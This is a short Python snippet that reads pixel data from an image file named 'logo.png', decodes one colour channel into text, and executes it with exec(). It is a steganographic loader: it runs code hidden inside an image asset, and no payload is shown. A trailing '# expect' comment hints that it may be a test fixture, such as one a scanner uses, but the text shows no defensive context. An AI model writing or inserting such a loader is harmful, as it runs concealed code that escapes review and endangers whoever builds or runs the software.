import os

from PIL import Image

pixels = Image.open("logo.png").getdata()
exec("".join(chr(p[0]) for p in pixels))  # expect
